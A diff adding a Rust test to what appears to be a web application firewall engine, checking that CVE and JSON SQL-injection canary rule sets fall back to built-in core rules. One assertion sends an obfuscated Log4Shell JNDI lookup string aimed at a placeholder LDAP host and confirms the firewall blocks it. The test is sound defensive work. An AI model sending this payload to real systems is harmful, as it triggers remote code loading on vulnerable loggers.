@@ -200,3 +200,21 @@ fn its_rules_refuse_and_their_signatures_are_named() {
         Request::post("/", b"{\"a\":\"O'Brien\"}").header("Content-Type", b"application/json");
     assert_eq!(clean.through(&policy, &state(), NOON).0.decision, Decision::Allow);
 }
+
+#[test]
+fn sets_that_the_loaded_generation_lacks_are_served_by_our_own_rules() {
+    let Some(mut rulesets) = loaded(4) else { return };
+    let core = RuleSet::load("core", &Source::Builtin("core".into()), 4).expect("it compiles").set;
+    rulesets.insert("core".into(), core);
+    for set in ["cve-canary", "json-sqli-canary"] {
+        let question = format!("evaluatePreconfiguredWaf('{set}', {{'sensitivity': 2}})");
+        let (policy, warnings) = policy(&rule(1, "deny(403)", &question), &rulesets);
+        assert_eq!(warnings, <[&str; 0]>::default());
+        assert_eq!(policy.served()[0].ruleset, "core", "{set}");
+    }
+    let question = "evaluatePreconfiguredWaf('cve-canary', {'sensitivity': 1})";
+    let (policy, _) = policy(&rule(1, "deny(403)", question), &rulesets);
+    let refused = |request: Request| !request.through(&policy, &state(), NOON).0.decision.passes();
+    assert!(refused(Request::get("/").header("x-api", b"${${lower:j}ndi:ldap://192.0.2.1/a}")));
+    assert!(!refused(Request::get("/").header("x-api", b"${name}")));
+}
